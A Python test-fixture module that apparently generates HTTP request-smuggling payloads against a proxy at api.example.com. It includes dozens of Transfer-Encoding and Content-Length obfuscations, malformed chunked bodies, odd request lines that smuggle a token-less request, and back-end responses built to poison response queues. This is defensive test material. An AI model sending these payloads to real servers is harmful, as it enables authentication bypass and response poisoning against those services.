# SPDX-License-Identifier: MIT
"""Requests that two servers may understand differently, as public collections of smuggling payloads have them.

Each contains a request for /api/smuggled without a token, where another reading of the framing would begin one.
"""

HIDDEN = "GET /api/smuggled HTTP/1.1\r\nHost: api.example.com\r\nX-Rest: "
WHOLE = "GET /api/smuggled HTTP/1.1\r\nHost: api.example.com\r\n\r\n"

#: Spellings of a field that one server may take for `Transfer-Encoding: chunked`, and another may not.
TRANSFER_ENCODINGS = [
    "Transfer-Encoding: chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding\t: chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:  chunked",
    "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding: \x0cchunked",
    "Transfer-Encoding: chunked\x0b",
    "Transfer-Encoding: chunked ",
    "Transfer-Encoding: chunked\t",
    "Transfer-Encoding: chunked\x00",
    "Transfer-Encoding:\x00chunked",
    "Transfer-Encoding: \xa0chunked",
    "Transfer-Encoding: \x85chunked",
    "Transfer-Encoding: chun\u212aed",
    " Transfer-Encoding: chunked",
    "\tTransfer-Encoding: chunked",
    "X-Before: x\r\n Transfer-Encoding: chunked",
    "X-Before: x\nTransfer-Encoding: chunked",
    "X-Before: x\rTransfer-Encoding: chunked",
    "X-Before: x\r\r\nTransfer-Encoding: chunked",
    "X-Before: x\r\n\rTransfer-Encoding: chunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding:\n chunked",
    "Transfer-Encoding\r\n : chunked",
    "Transfer-Encoding\n: chunked",
    "Transfer-Encoding: chunked\nX-After: x",
    "Transfer-Encoding: chunked\rX-After: x",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: chunked, cow",
    "Transfer-Encoding: cow, chunked",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: chunked; a=b",
    "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding: , chunked",
    "Transfer-Encoding: 'chunked'",
    'Transfer-Encoding: "chunked"',
    "Transfer-Encoding: CHUNKED",
    "TRANSFER-ENCODING: chunked",
    "tRANSFER-ENCODING: chunked",
    "Transfer_Encoding: chunked",
    "Transfer.Encoding: chunked",
    "Transfer Encoding: chunked",
    "Transfer-Encoding chunked",
    "Transfer-Encoding:: chunked",
    ":Transfer-Encoding: chunked",
    "Transfer-Encoding;: chunked",
    "Transfer\\-Encoding: chunked",
    "Transfer-Encoding\x00: chunked",
    "\x00Transfer-Encoding: chunked",
    "\xffTransfer-Encoding: chunked",
    "Foo: bar\r\n\x00Transfer-Encoding: chunked",
    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding:",
    "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
    "Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked",
    "TE: chunked",
    "Content-Encoding: chunked",
    "X-Transfer-Encoding: chunked",
]

#: Spellings of a length, `{}` for the right one.
LENGTHS = [
    "Content-Length: +{}",
    "Content-Length: -{}",
    "Content-Length: 0{}",
    "Content-Length: 0x{:x}",
    "Content-Length: {}.0",
    "Content-Length: {}e0",
    "Content-Length: {},{}",
    "Content-Length: {}, {}",
    "Content-Length: 0, {}",
    "Content-Length: {}, 0",
    "Content-Length: {} {}",
    "Content-Length: {};a",
    "Content-Length: {}\x0b",
    "Content-Length: {}\x00",
    "Content-Length: \x0b{}",
    "Content-Length: '{}'",
    "Content-Length: \"{}\"",
    "Content-Length: {}\nX: x",
    "Content-Length: {}\rX: x",
    "Content-Length:\n {}",
    "Content-Length:\r\n {}",
    "Content-Length : {}",
    "Content-Length\t: {}",
    " Content-Length: {}",
    "Content_Length: {}",
    "Content Length: {}",
    "Content-Length:: {}",
    "Content-Length:",
    "Content-Length: ",
    "Content-Length: x",
    "Content-Length: 18446744073709551616",
    "Content-Length: 18446744073709551617",
    "Content-Length: 9223372036854775808",
    "Content-Length: 4294967296",
    "Content-Length: -1",
    "Content-Length: \uff11",
    "Content-Length: 0\r\nContent-Length: {}",
    "Content-Length: {}\r\nContent-Length: 0",
    "Content-Length: {}\r\nContent-Length: {}",
    "Content-Length: {}\r\nConnection: Content-Length",
    "Connection: close, content-length\r\nContent-Length: {}",
    "X-Before: x\r\n Content-Length: {}",
    "X-Before: x\nContent-Length: {}",
    "Content-Length: {}\r\nExpect: 100-continue",
    "Content-Length: {}\r\nExpect: 100-continue, x",
    "Content-Length: {}\r\nExpect: x",
    "Content-Length: {}\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
    "Content-Length: {}\r\nUpgrade: websocket\r\nConnection: Upgrade",
    "Content-Length: {}\r\nX-HTTP-Method-Override: HEAD",
]

#: Bodies in the chunked coding that readers cut at different places.
CHUNKS = [
    "0\r\n\r\n",
    "0\n\r\n",
    "0\r\n\n",
    "0\n\n",
    "0\r\r\n\r\n",
    "0 \r\n\r\n",
    "0\t\r\n\r\n",
    " 0\r\n\r\n",
    "+0\r\n\r\n",
    "-0\r\n\r\n",
    "0x0\r\n\r\n",
    "00000000000000000000\r\n\r\n",
    "0;\r\n\r\n",
    "0;a=b\r\n\r\n",
    "0;a\n\r\n\r\n",
    "0;a\rb\r\n\r\n",
    "0;a=\"\r\n\r\n\"\r\n\r\n",
    "0;\x00\r\n\r\n",
    "0;" + "a" * 20_000 + "\r\n\r\n",
    "0\r\nX: y\r\n\r\n",
    "0\r\nX: y\n\r\n",
    "0\r\nContent-Length: 50\r\n\r\n",
    "0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "0\r\nHost: other.example\r\n\r\n",
    "0\r\nX-Portcullis-Subject: root\r\n\r\n",
    "0\r\n X: y\r\n\r\n",
    "0\r\n: y\r\n\r\n",
    "1\r\na\r\n0\r\n\r\n",
    "1\r\nab\r\n0\r\n\r\n",
    "2\r\na\r\n0\r\n\r\n",
    "1\r\na0\r\n\r\n",
    "1\r\na\n0\r\n\r\n",
    "1\r\na\r0\r\n\r\n",
    "1\na\r\n0\r\n\r\n",
    "1 \r\na\r\n0\r\n\r\n",
    "1;\na\r\n0\r\n\r\n",
    "1;a\nx\r\na\r\n0\r\n\r\n",
    "0x1\r\na\r\n0\r\n\r\n",
    "+1\r\na\r\n0\r\n\r\n",
    "-1\r\na\r\n0\r\n\r\n",
    "1_0\r\na\r\n0\r\n\r\n",
    "FFFFFFFFFFFFFFFF\r\na\r\n0\r\n\r\n",
    "10000000000000001\r\na\r\n0\r\n\r\n",
    "1g\r\na\r\n0\r\n\r\n",
    "\r\n0\r\n\r\n",
    "\n0\r\n\r\n",
    "g\r\n\r\n",
    "\r\n\r\n",
]

#: Request lines and the lines around them; `{T}` stands for the field with the token.
HEADS = [
    "GET /api/x HTTP/1.0\r\nHost: api.example.com\r\n{T}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "GET /api/x HTTP/1.0\r\nHost: api.example.com\r\n{T}Connection: keep-alive\r\nContent-Length: 5\r\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\nHost: other.example\r\n{T}\r\n",
    "GET /api/x HTTP/1.1\r\nHost : api.example.com\r\n{T}\r\n",
    "GET /api/x HTTP/1.1\r\n Host: api.example.com\r\n{T}\r\n",
    "GET  /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET\t/api/x\tHTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x\x0bHTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x HTTP/1.1 \r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x HTTP/1.1 HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x HTTP/1.2\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x HTTP/01.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x HTTP/2.0\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x http/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x HTTP/1.1\nHost: api.example.com\n{T}\n",
    "GET /api/x HTTP/1.1\rHost: api.example.com\r\n{T}\r\n",
    "\r\n\r\nGET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "\nGET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET http://other.example/api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET http://api.example.com@other.example/api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET @other.example/api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET //other.example/api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x#/../smuggled HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x%0d%0aX:%20y HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x%20HTTP/1.1%0d%0aHost:%20a%0d%0a%0d%0aGET%20/api/smuggled HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x?a=%0d%0a%0d%0aGET%20/api/smuggled HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/..;/smuggled HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x/..%2fsmuggled HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "GET /api/x\\..\\smuggled HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "CONNECT /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "CONNECT api.example.com:80 HTTP/1.1\r\nHost: api.example.com:80\r\n{T}\r\n",
    "TRACE /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}X: y\x00z\r\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}X: y\r\n z\r\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}: y\r\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}X\r\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}X Y: z\r\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\r\r\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}Connection: Host\r\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}Connection: X-Portcullis-Subject\r\n\r\n",
    "GET /api/x HTTP/1.1\r\nHost: api.example.com\r\n{T}Max-Forwards: 0\r\n\r\n",
]


def requests(token):
    """Name and bytes of each payload. Every one is followed by the beginning of a request without a token."""
    field = f"Authorization: Bearer {token}\r\n"
    start = f"POST /api/attack HTTP/1.1\r\nHost: api.example.com\r\n{field}"
    found = []

    def add(name, text):
        found.append((name, text.encode("utf-8" if any(ord(one) > 255 for one in text) else "latin-1")))

    for line in TRANSFER_ENCODINGS:
        # The body by its length hides a request behind the last chunk; by its chunks, one behind the length.
        by_chunks = "0\r\n\r\n" + HIDDEN
        add(f"CL.TE {line!r}", f"{start}Content-Length: {len(by_chunks)}\r\n{line}\r\n\r\n{by_chunks}")
        add(f"CL.TE reversed {line!r}", f"{start}{line}\r\nContent-Length: {len(by_chunks)}\r\n\r\n{by_chunks}")
        by_length = f"{len(WHOLE):x}\r\n{WHOLE}\r\n0\r\n\r\n"
        size = len(f"{len(WHOLE):x}\r\n")
        add(f"TE.CL {line!r}", f"{start}Content-Length: {size}\r\n{line}\r\n\r\n{by_length}")
        add(f"TE.0 {line!r}", f"{start}{line}\r\n\r\n{by_length}")
        add(f"0.TE {line!r}", f"{start}Content-Length: 0\r\n{line}\r\n\r\n{by_chunks}")
    for form in LENGTHS:
        line = form.format(*[len(WHOLE)] * 2)
        add(f"CL {form!r}", f"{start}{line}\r\n\r\n{WHOLE}")
        add(f"GET with CL {form!r}", f"{start}{line}\r\n\r\n{WHOLE}".replace("POST", "GET", 1))
    for body in CHUNKS:
        add(f"chunks {body[:40]!r}", f"{start}Transfer-Encoding: chunked\r\n\r\n{body}{HIDDEN}")
        add(f"chunks, whole {body[:40]!r}", f"{start}Transfer-Encoding: chunked\r\n\r\n{body}{WHOLE}")
    for head in HEADS:
        add(f"head {head[:60]!r}", head.replace("{T}", field) + WHOLE)
        add(f"head with a body {head[:60]!r}", head.replace("{T}", f"{field}Content-Length: {len(WHOLE)}\r\n") + WHOLE)
    return found


POISON = b"POISON"
POISONED = b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\n" + POISON

#: What a server behind may send so that its rest would become the answer to another request.
ANSWERS = [
    b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok" + POISONED,
    b"HTTP/1.1 204 No Content\r\n\r\n" + POISONED,
    b"HTTP/1.1 204 No Content\r\nContent-Length: 10\r\n\r\n" + POISONED,
    b"HTTP/1.1 204 No Content\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + POISONED,
    b"HTTP/1.1 304 Not Modified\r\nContent-Length: 10\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 80\r\n\r\nok" + POISONED,
    b"HTTP/1.1 200 OK\r\nContent-Length: 2, 80\r\n\r\nok" + POISONED,
    b"HTTP/1.1 200 OK\r\nContent-Length: +2\r\n\r\nok" + POISONED,
    b"HTTP/1.1 200 OK\r\nContent-Length: -2\r\n\r\nok" + POISONED,
    b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nokok\r\n0\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\n\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0;a\n\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 50\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: identity\r\nContent-Length: 2\r\n\r\nok" + POISONED,
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nX: y\r\n Content-Length: 50\r\nContent-Length: 0\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\nContent-Length: 0\n\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nX: y\rContent-Length: 0\r\n\r\n" + POISONED,
    b"HTTP/1.1 200 OK\r\nX: y\x00z\r\nContent-Length: 0\r\n\r\n" + POISONED,
    b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n" + POISONED,
    b"HTTP/1.1 103 Early Hints\r\n\r\n" * 30 + b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n" + POISONED,
    b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\n" + POISONED,
    b"HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n" + POISONED,
    b"HTTP/1.0 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n0\r\n\r\n" + POISONED,
    b"HTTP/2.0 200 OK\r\nContent-Length: 0\r\n\r\n" + POISONED,
    b"HTTP/1.1 099 Low\r\nContent-Length: 0\r\n\r\n" + POISONED,
    b"HTTP/1.1 2000 High\r\nContent-Length: 0\r\n\r\n" + POISONED,
    b"\r\n" + POISONED + POISONED,
    POISONED * 3,
    b"garbage\r\n\r\n" + POISONED,
]
